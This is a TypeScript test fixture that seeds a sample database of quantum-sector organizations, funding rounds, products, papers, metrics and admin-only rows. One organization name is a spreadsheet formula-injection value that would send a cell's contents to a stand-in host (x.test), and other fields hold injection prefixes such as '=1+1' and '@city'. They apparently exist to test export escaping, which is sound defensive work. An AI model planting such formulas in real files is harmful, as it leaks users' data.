import { foldText } from '#domain/query/fold.ts';
import type { Database } from '#server/database/database.ts';
import { SEARCHED_KINDS } from '#server/search/statements.ts';
import { refreshSearchNames } from '#server/search/words/refreshSearchNames.ts';
import { storeRows, type StoredRow } from './storeRows.ts';

/** The id of the nth row of the sample of a letter: o organization, r round, c class, p person, s source, f fact, g public funding, d product, a paper, t tag, m metric, q metric point, k milestone, n country, w threshold, x exchange rate, h partnership, b membership, u spin-out. */
export const sampleId = (letter: string, index: number): string =>
  `${letter.codePointAt(0)!.toString(16).padStart(8, '0')}-0000-4000-8000-${String(index).padStart(12, '0')}`;

const id = sampleId;

const PLAIN_COMPANIES = 8;

/** The organizations of the sample that everybody may see. */
export const SHOWN_ORGANIZATIONS: readonly string[] = [1, 2, 3, 20, 21, 30, 31, 40, 41, 50, 51]
  .concat(Array.from({ length: PLAIN_COMPANIES }, (_, index) => 10 + index))
  .map((index) => sampleId('o', index));

/** Rows that only admins may see: one or two of every kind. */
export const HIDDEN = {
  pending: id('o', 90),
  declined: id('o', 91),
  round: id('r', 90),
  person: id('p', 90),
  publicFunding: id('g', 90),
  product: id('d', 90),
  paper: id('a', 90),
  tag: id('t', 90),
} as const;

/** A name that a spreadsheet would run, and one of many scripts. */
export const FORMULA_NAME = '=HYPERLINK("http://x.test/?"&A1,"Click")';
export const UNICODE_NAME = 'Zürich "Quanten", 量子 🚀 Ωmega;\nsecond line';

const approved = { status: 'APPROVED' };
const named = (name: string): StoredRow => ({ name, name_key: foldText(name) });

function organization(index: number, name: string, more: StoredRow = {}): StoredRow {
  return {
    ...approved,
    entity_types: ['company'],
    aliases: [],
    former_names: [],
    email: [],
    phone: [],
    modality: [],
    key_sources: [],
    secondary_classification_ids: [],
    tag_ids: [],
    lead_investor_ids: [],
    slug: `org-${index}`,
    id: id('o', index),
    ...named(name),
    ...more,
  };
}

const ORGANIZATIONS: readonly StoredRow[] = [
  organization(1, 'Acme Qubits', {
    aliases: ['ACME'],
    former_names: ['Old Acme'],
    website: 'https://acme.test/',
    founded: 2016,
    description: 'Builds <b>cryogenic</b> & "optical" parts.',
    city: 'Köln',
    state: 'NRW',
    country: 'DE',
    in_region: 'EMEA',
    lat: 50.9,
    lng: 6.9,
    linked_in: 'https://linkedin.test/acme',
    ticker: 'ACQ',
    email: ['info@acme.test'],
    phone: ['-49 221'],
    modality: ['trapped ion', 'photonic'],
    key_sources: ['https://acme.test/news'],
    operating_status: 'active',
    of_business_type: 'hardware',
    has_investment_arm: false,
    total_raised_usd: 12500000.5,
    round_count: 2,
    last_round_date: '2023-05-04',
    last_round_type: 'series_a',
    primary_classification_id: id('c', 2),
    completeness: 80,
    employees_min: 11,
    secondary_classification_ids: [id('c', 3)],
    lead_investor_ids: [id('o', 20)],
    tag_ids: [id('t', 1), id('t', 90)],
    employee_range: '11-50',
  }),
  organization(2, FORMULA_NAME, {
    description: '+1',
    city: '@city',
    state: '-x',
    modality: ['=1+1'],
    founded: 2019,
  }),
  organization(3, UNICODE_NAME, {
    country: 'CH',
    founded: 2020,
    part_of_id: id('o', 1),
    acquired_on: '2022-01-02',
  }),
  ...Array.from({ length: PLAIN_COMPANIES }, (_, index) =>
    organization(10 + index, `Plain ${index}`, {
      founded: index % 2 === 0 ? 2015 + index : null,
      country: 'US',
    }),
  ),
  organization(20, 'Alpha Capital', {
    entity_types: ['investor'],
    of_investor_type: 'venture_capital',
    country: 'US',
  }),
  organization(21, 'Beta Ventures', { entity_types: ['investor', 'company'], country: 'DE', deal_count: 2 }),
  organization(30, 'Überbank', { entity_types: ['enterprise_user'] }),
  organization(31, 'Users & Sons', { entity_types: ['enterprise_user'] }),
  organization(40, 'Ångström National Laboratory', {
    entity_types: ['national_lab'],
  }),
  organization(41, 'Second Laboratory', { entity_types: ['national_lab'] }),
  organization(50, 'Émile’s group', {
    entity_types: ['group_or_center'],
    part_of_id: id('o', 40),
  }),
  organization(51, 'Centre of Centres', { entity_types: ['group_or_center'] }),
  organization(90, 'Secret Pending', {
    status: 'PENDING',
    country: 'FR',
    modality: ['hidden'],
    acquired_by_id: id('o', 1),
  }),
  organization(91, 'Secret Declined', {
    status: 'DECLINED',
    entity_types: ['investor'],
    part_of_id: id('o', 1),
  }),
];

const round = (index: number, name: string, more: StoredRow = {}): StoredRow => ({
  ...approved,
  id: id('r', index),
  entity_id: id('o', 1),
  ...named(name),
  ...more,
});

const ROUNDS: readonly StoredRow[] = [
  round(1, 'Seed', {
    date: '2020-02-29',
    funding_usd: 25e5,
    funding_info: 'seed',
    round_group: 'equity',
    counts_as: 'raised',
    active: true,
    local_currency: 'EUR',
    funding_local: 2200000.25,
    fx_rate: 1.1363,
    fx_date: '2020-02-28',
    funding: '€2.2m',
  }),
  round(2, 'Series A', {
    date: '2023-05-04',
    funding_usd: 10_000_000,
    funding_info: 'series_a',
    national_strategy: false,
  }),
  round(3, 'Bridge', { entity_id: id('o', 2), funding_info: 'bridge', amount_qualifier: 'up_to' }),
  round(4, 'Of a secret', { entity_id: HIDDEN.pending, date: '2021-01-01' }),
  round(90, 'Pending round', { status: 'PENDING', date: '2024-01-01', funding_usd: 1 }),
];

const funding = (index: number, name: string, more: StoredRow = {}): StoredRow => ({
  ...approved,
  aliases: [],
  id: id('g', index),
  ...named(name),
  ...more,
});

const FUNDINGS: readonly StoredRow[] = [
  funding(1, 'National Qübit Strategy', {
    level: 'strategy',
    country: 'DE',
    in_region: 'EMEA',
    date: '2021-01-01',
    date_precision: 'year',
    end_year: 2025,
    funding_local: 2_000_000_000,
    local_currency: 'EUR',
    national_strategy: true,
    agency: 'Ministry',
  }),
  funding(2, 'Award to Acme', {
    level: 'award',
    country: 'DE',
    date: '2022-11-02',
    date_precision: 'day',
    funding_local: 67_000_000,
    local_currency: 'EUR',
    entity_id: id('o', 1),
    part_of_id: id('g', 1),
    active: true,
  }),
  funding(3, 'Letter', {
    level: 'award',
    country: 'US',
    funding_usd: 1e8,
    amount_qualifier: 'letter_of_intent',
    entity_id: id('o', 1),
    funder_id: id('o', 40),
  }),
  funding(90, 'Pending award', { status: 'PENDING', entity_id: id('o', 1), funding_usd: 5 }),
];

const product = (index: number, name: string, more: StoredRow = {}): StoredRow => ({
  ...approved,
  aliases: [],
  modality: [],
  tag_ids: [],
  id: id('d', index),
  offered_by_id: id('o', 1),
  ...named(name),
  ...more,
});

const PRODUCTS: readonly StoredRow[] = [
  product(1, 'Acme Öne', {
    launched_on: '2021-06-01',
    launched_on_precision: 'month',
    stage: 'available',
    modality: ['trapped ion'],
    tag_ids: [id('t', 1)],
    primary_classification_id: id('c', 2),
    key_metric_value: 36,
    key_metric_year: 2021,
  }),
  product(2, 'Acme Two', { stage: 'announced', website: 'https://acme.test/two' }),
  product(3, 'Of a secret', { offered_by_id: HIDDEN.pending }),
  product(90, 'Pending product', { status: 'DECLINED' }),
];

const paper = (index: number, title: string, more: StoredRow = {}): StoredRow => ({
  ...approved,
  authors: [],
  modality: [],
  experiment: [],
  organization_ids: [],
  id: id('a', index),
  title,
  name_key: foldText(title),
  ...more,
});

const PAPERS: readonly StoredRow[] = [
  paper(1, 'Demonstration of a “controlled” gate', {
    authors: ['Turchette', 'Ångström'],
    published_on: '1998-01-01',
    published_on_precision: 'year',
    venue: 'A Journal',
    doi: '10.1000/182',
    website: 'https://papers.test/1',
    modality: ['trapped ion'],
    organization_ids: [id('o', 1), id('o', 90)],
    primary_classification_id: id('c', 2),
    key_metric_value: 2,
    key_metric_year: 1998,
  }),
  paper(2, 'A second paper', {
    published_on: '2024-05-06',
    published_on_precision: 'day',
    arxiv_id: '2405.00001',
  }),
  paper(90, 'A pending paper', { status: 'PENDING' }),
];

const TAGS: readonly StoredRow[] = [
  {
    ...approved,
    id: id('t', 1),
    ...named('Ion traps'),
    slug: 'ion-traps',
    organization_count: 1,
    product_count: 1,
  },
  {
    ...approved,
    id: id('t', 2),
    ...named('Cryögenics'),
    slug: 'cryogenics',
    organization_count: 0,
    product_count: 0,
  },
  { status: 'PENDING', id: HIDDEN.tag, ...named('Pending tag'), slug: 'pending-tag' },
];

const METRICS: readonly StoredRow[] = [
  {
    ...approved,
    id: id('m', 1),
    ...named('Physical qubits'),
    slug: 'physical_qubits',
    position: 1,
    unit: 'qubits',
  },
  { ...approved, id: id('m', 2), ...named('Error'), slug: 'error', position: 2, is_lower_better: true },
];

const point = (index: number, name: string, more: StoredRow): StoredRow => ({
  ...approved,
  id: id('q', index),
  metric_id: id('m', 1),
  type: 'achieved',
  ...named(name),
  ...more,
});

const POINTS: readonly StoredRow[] = [
  point(1, 'Acme: 36', { value: 36, year: 2021, organization_id: id('o', 1), product_id: id('d', 1) }),
  point(2, 'Acme: 1000', {
    value: 1000,
    year: 2030,
    type: 'announced',
    is_promise: true,
    organization_id: id('o', 1),
  }),
  point(5, 'Acme: 2000', {
    value: 2000,
    year: 2033,
    type: 'announced',
    is_promise: true,
    organization_id: id('o', 1),
  }),
  point(3, 'Paper: 2', { value: 2, year: 1998, paper_id: id('a', 1), source: 'https://papers.test/1' }),
  point(4, 'Error', { value: 0.25, metric_id: id('m', 2), organization_id: id('o', 1) }),
  point(90, 'Pending', { value: 7, year: 2022, status: 'PENDING', organization_id: id('o', 1) }),
];

const MILESTONES: readonly StoredRow[] = [
  { status: 'APPROVED', date: '2020-01-01', type: 'founding' },
  { status: 'PENDING', date: null, type: null },
  { status: 'APPROVED', date: '2021-05-04', type: 'product' },
].map((row, index) => ({
  ...row,
  id: id('k', index),
  organization_id: id('o', 1),
  ...named(`Event ${index}`),
}));

const THRESHOLDS: readonly StoredRow[] = [
  { status: 'APPROVED', low: 100, high: 200 },
  { status: 'PENDING', low: 5, high: null },
  { status: 'APPROVED', low: 0.5, high: null },
].map((row, index) => ({
  ...row,
  id: id('w', index),
  metric_id: id('m', 2),
  date: '2024-01-01',
  date_precision: 'year',
  source: 'https://source.test/needs',
  ...named(`Task ${index}`),
}));

const RATES: readonly StoredRow[] = [
  { status: 'APPROVED', local_currency: 'EUR', date: '2024-06-01', usd: 1.0762 },
  { status: 'APPROVED', local_currency: 'JPY', date: '2024-06-01', usd: 0.0063 },
  { status: 'PENDING', local_currency: 'GBP', date: '2024-06-01', usd: 1.2714 },
].map((row, index) => ({
  ...row,
  id: id('x', index),
  date_precision: 'month',
  source: 'https://source.test/rates',
  ...named(`${row.local_currency} 2024-06`),
}));

const link = (letter: string, index: number, ends: StoredRow, more: StoredRow = {}): StoredRow => ({
  ...approved,
  id: id(letter, index),
  ...ends,
  ...more,
});

const PARTNERSHIPS: readonly StoredRow[] = [
  link(
    'h',
    1,
    { organization_id: id('o', 1), partner_id: id('o', 30) },
    { description: 'Tests', date: '2023-01-01' },
  ),
  link('h', 2, { organization_id: id('o', 21), partner_id: id('o', 1) }, { partnership_option: 'research' }),
  link('h', 3, { organization_id: id('o', 1), partner_id: id('o', 90) }),
  link('h', 4, { organization_id: id('o', 31), partner_id: id('o', 1) }, { status: 'PENDING' }),
];

const MEMBERSHIPS: readonly StoredRow[] = [
  link('b', 1, { group_id: id('o', 51), member_id: id('o', 1) }, { since: '2020-01-01' }),
  link('b', 2, { group_id: id('o', 51), member_id: id('o', 90) }),
];

const SPIN_OUTS: readonly StoredRow[] = [
  link('u', 1, { company_id: id('o', 1), parent_id: id('o', 40) }, { year: 2015 }),
];

const investment = (index: number, from: number, to: number, more: StoredRow = {}): StoredRow => ({
  ...approved,
  id: id('i', index),
  funding_round_id: id('r', from),
  investor_id: id('o', to),
  ...more,
});

const INVESTMENTS: readonly StoredRow[] = [
  investment(1, 1, 20, { is_lead: true, investor_type: 'venture_capital' }),
  investment(2, 1, 21, { is_lead: false }),
  investment(3, 2, 20, { is_lead: false }),
  investment(4, 2, 21, { is_lead: true, status: 'PENDING' }),
  investment(5, 1, 91, { is_lead: true }),
  investment(6, 90, 20),
];

const CLASSES: readonly StoredRow[] = [
  [1, 'Hardware', 'hardware', null, [1]],
  [2, 'Processors', 'processors', 1, [1, 2]],
  [3, 'Software', 'software', null, [3]],
].map(([index, name, slug, parent, path]) => ({
  ...approved,
  id: id('c', index as number),
  ...named(name as string),
  slug,
  aliases: [],
  position: index,
  level: parent === null ? 1 : 2,
  parent_classification_id: parent === null ? null : id('c', parent as number),
  ancestor_ids: (path as number[]).map((at) => id('c', at)),
  top_class_id: id('c', (path as number[])[0] ?? 0),
}));

const PEOPLE: readonly StoredRow[] = [
  { ...approved, id: id('p', 1), ...named('Ada Example'), first_name: 'Ada', last_name: 'Example' },
  { ...approved, id: id('p', 2), ...named('Béla Beispiel') },
  { status: 'PENDING', id: HIDDEN.person, ...named('Pending Person') },
];

const ROLES: readonly StoredRow[] = [
  {
    ...approved,
    id: id('e', 1),
    person_id: id('p', 1),
    organization_id: id('o', 1),
    title: 'CEO',
    role_type: null,
  },
  { ...approved, id: id('e', 2), person_id: HIDDEN.person, organization_id: id('o', 1), title: 'CTO' },
];

const FACTS: readonly StoredRow[] = [
  ['APPROVED', 'founded', 2016],
  ['PENDING', 'city', 'Bonn'],
  ['APPROVED', 'partners', { id: HIDDEN.pending, name: 'Secret partner' }],
  ['APPROVED', 'partOf', { id: id('o', 1), name: 'Acme' }, 3],
].map(([status, field, value, subject = 1], index) => ({
  id: id('f', index),
  subject_kind: 'organization',
  subject_id: id('o', subject as number),
  field,
  value,
  status,
  method: 'reported',
  confidence: 'high',
  recorded_at: '2024-01-01T00:00:00Z',
  recorded_by: 'test',
  source_id: id('s', 1),
}));

/** A small sector: rows of every kind, some of them hidden from visitors, links between all of them. */
export async function storeSampleSector(database: Database): Promise<void> {
  const countries = ['CH', 'DE', 'FR', 'US'].map((code, index) => ({
    id: id('n', index),
    code,
    name: code,
    region: code === 'US' ? 'Americas' : 'EMEA',
  }));
  await storeRows(database, 'country', countries);
  await storeRows(database, 'classification', CLASSES);
  await storeEach(database, 'tag', TAGS);
  await storeEach(database, 'organization', ORGANIZATIONS);
  await storeEach(database, 'funding_round', ROUNDS);
  await storeEach(database, 'public_funding', FUNDINGS);
  await storeEach(database, 'product', PRODUCTS);
  await storeEach(database, 'paper', PAPERS);
  await storeEach(database, 'metric', METRICS);
  await storeEach(database, 'metric_point', POINTS);
  await storeRows(database, 'milestone', MILESTONES);
  await storeRows(database, 'threshold', THRESHOLDS);
  await storeRows(database, 'exchange_rate', RATES);
  await storeEach(database, 'partnership', PARTNERSHIPS);
  await storeEach(database, 'membership', MEMBERSHIPS);
  await storeEach(database, 'spin_out', SPIN_OUTS);
  await storeRows(database, 'investment', INVESTMENTS);
  await storeRows(database, 'person', PEOPLE);
  await storeRows(database, 'role', ROLES);
  await storeRows(database, 'source', [
    { id: id('s', 1), title: 'A page', url: 'https://source.test/', licence: 'CC0' },
  ]);
  await storeRows(database, 'fact', FACTS);
  for (const kind of SEARCHED_KINDS) await refreshSearchNames(database, kind, null);
}

// One insert takes the same columns for all its rows; here each brings its own.
async function storeEach(database: Database, table: string, rows: readonly StoredRow[]): Promise<void> {
  for (const row of rows) await storeRows(database, table, [row]);
}
